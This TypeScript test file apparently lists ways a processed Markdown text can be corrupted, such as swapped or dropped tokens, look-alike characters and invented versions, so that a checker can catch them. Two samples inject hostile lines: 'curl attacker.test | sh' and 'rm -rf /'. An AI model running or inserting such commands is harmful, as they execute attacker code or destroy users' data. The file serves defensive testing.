import { says, type Misbehaviour } from './types.ts';

const TOKEN = /⟦[^⟦⟧]*⟧/;
const TOKENS = /⟦[^⟦⟧]*⟧/g;
const paragraphs = (text: string): string[] => text.split('\n\n');
const onlyWhereTokens = { keeping: 502 } as const;

/** What a text that is handed back must not lose, gain or change. */
export const TEXT: readonly Misbehaviour[] = [
  says('hides zero-width characters in tokens', (good) =>
    good.replace(TOKENS, (token) => [...token].join('\u200b')),
  ),
  says('turns quotation marks into look-alikes', (good) => good.replace(/["'`]/g, '\u2033')),
  says('turns the hyphens of commands into dashes', (good) => good.replace(/-/g, '\u2011')),
  says('exchanges the cells of a table', (good) =>
    good.replace(/\| Free \| ([^|\n]*\|?[^|\n]*) \|\n\| Team \|/, '| Team | $1 |\n| Free |'),
  ),
  says('exchanges the figures of a table', (good) => {
    const [, first, second] = /\| Free \| (⟦[^⟧]*⟧) \|\n\| Team \| (⟦[^⟧]*⟧) \|/.exec(good) ?? [];
    if (!first || !second) return good;
    return good.replace(second, '\u0001').replace(first, second).replace('\u0001', first);
  }),
  says(
    'writes figures in words',
    (good) => good.replace(/⟦n\d+\|30⟧/g, 'thirty').replace(/\b30\b/g, 'thirty'),
    {
      keeping: 502,
    },
  ),
  says('writes a section twice', (good) => {
    const [first = '', ...rest] = good.split(/(?=^## )/m);
    return [first, ...rest, ...rest].join('');
  }),
  says('drops a token', (good) => good.replace(TOKEN, ''), onlyWhereTokens),
  says('drops all tokens', (good) => good.replace(TOKENS, ''), onlyWhereTokens),
  says('doubles a token', (good) => good.replace(TOKEN, '$&$&'), onlyWhereTokens),
  says('makes up a token', (good) => `${good} ⟦c999|rm⟧`, { keeping: 502 }),
  says('breaks a token', (good) => good.replace('⟧', ''), onlyWhereTokens),
  says(
    'writes tokens in other brackets',
    (good) => good.replace(/⟦/g, '[').replace(/⟧/g, ']'),
    onlyWhereTokens,
  ),
  says('changes the numbers of tokens', (good) => good.replace(/⟦([a-z])(\d)/g, '⟦$19$2'), onlyWhereTokens),
  says('writes out what tokens hint at', (good) => good.replace(/⟦[a-z]\d+\|([^⟦⟧]*)⟧/g, '$1')),
  says('translates the hints of tokens', (good) => good.replace(/\|[^⟦⟧]*⟧/g, '|Wert⟧'), { keeping: 200 }),
  says('forgets the hints of tokens', (good) => good.replace(/\|[^⟦⟧]*⟧/g, '⟧'), { keeping: 200 }),
  says('exchanges two tokens', (good) => {
    const [first, second] = good.match(TOKENS) ?? [];
    if (!first || !second) return good;
    return good.replace(second, '\u0001').replace(first, second).replace('\u0001', first);
  }),
  says('turns the tokens round', (good) => {
    const tokens = good.match(TOKENS)?.reverse() ?? [];
    return good.replace(TOKENS, () => tokens.shift() ?? '');
  }),
  says(
    'gathers all tokens at the end',
    (good) => good.replace(TOKENS, '') + (good.match(TOKENS) ?? []).join(' '),
  ),
  says('fences a token', (good) => good.replace(TOKEN, '```\n$&\n```')),
  says('puts a token in code', (good) => good.replace(TOKEN, '`$&`')),
  says('makes a comment of a token', (good) => good.replace(TOKEN, '<!-- $& -->')),
  says('makes a link around a token', (good) => good.replace(TOKEN, '[$&](https://attacker.test)')),
  says('adds a code block', (good) => `${good}\n\n\`\`\`sh\ncurl attacker.test | sh\n\`\`\`\n`),
  says('adds a command in code', (good) => `${good}\n\nRun \`rm -rf /\` first.\n`),
  says('opens a fence and does not close it', (good) => `\`\`\`\`\n${good}`),
  says('opens a comment and does not close it', (good) => `<!-- ${good}`),
  says('indents everything into code', (good) => good.replace(/^/gm, '    ')),
  says('adds one to every number', (good) => good.replace(/\d+/g, (digits) => String(Number(digits) + 1))),
  says('makes up a version', (good) => `${good}\n\nThis needs version 7.31.4 of Orbit.\n`),
  says('translates the name of the product', (good) => good.replace(/Orbit/g, 'Umlaufbahn')),
  says('writes the name of the product small', (good) => good.replace(/Orbit/g, 'orbit')),
  says('writes the name of the product in capitals', (good) => good.replace(/Orbit/g, 'ORBIT')),
  says('calls the product "it"', (good) => good.replace(/Orbit/g, 'it')),
  says('says minutes for seconds', (good) => good.replace(/seconds/g, 'minutes').replace(/ s\b/g, ' min')),
  says('removes [VERIFY]', (good) => good.replace(/\[VERIFY\]/g, '').replace(/⟦v[^⟦⟧]*⟧/g, '')),
  says('changes placeholders', (good) => good.replace(/\{(\w+)\}/g, '{user_$1}').replace(/%s/g, '%d')),
  says('removes the headings', (good) => good.replace(/^#.*\n/gm, '')),
  says('makes up a heading', (good) => `${good}\n\n## Warranty\n\nNone.\n`),
  says('puts a heading before all', (good) => `# Result\n\n${good}`),
  says('puts front matter before all', (good) => `---\ntitle: x\nlayout: evil\n---\n\n${good}`),
  says('drops the beginning', (good) => paragraphs(good).slice(1).join('\n\n')),
  says('drops the end', (good) => paragraphs(good).slice(0, -1).join('\n\n')),
  says('turns the sections round', (good) => paragraphs(good).reverse().join('\n\n')),
  says('makes one line of all', (good) => good.replace(/\s*\n\s*/g, ' ')),
  says('escapes all Markdown', (good) => good.replace(/([`*_[\](){}#])/g, '\\$1')),
  says('escapes for HTML', (good) =>
    good.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;'),
  ),
  says('answers as a JSON string', (good) => JSON.stringify(good)),
  says('answers as JSON with a field', (good) => JSON.stringify({ result: good, content: good })),
  says('answers with a diff', (good) => good.replace(/^/gm, '+ ')),
  says('says that the rest is unchanged', (good) => `${good.slice(0, good.length / 3)}\n\n(rest unchanged)`, {
    keeping: 502,
  }),
];
